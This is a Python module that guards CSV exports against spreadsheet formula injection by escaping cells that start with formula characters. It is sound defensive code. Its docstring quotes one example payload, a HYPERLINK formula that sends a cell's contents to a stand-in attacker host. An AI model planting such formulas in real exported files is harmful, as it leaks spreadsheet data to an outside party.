"""CSV that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``, ``+``, ``-`` or
``@`` (and, through some import paths, a tab or carriage return) as a formula, so a
participant named ``=HYPERLINK("http://evil.example/?"&A1)`` would run in an officer's
spreadsheet (OWASP "CSV injection"). Every CSV ontrack writes goes through
:class:`SafeWriter`, which prefixes such text cells with an apostrophe. A plain signed
number (an E.164 phone number ``+19735550142``, a longitude ``-74.0``) evaluates to itself,
so it is left as it is. Plain Python, no Django.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _SIGNED_NUMBER.fullmatch(text)


def safe_cell(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would evaluate gets a leading ``'``."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every text cell passed through :func:`safe_cell`."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
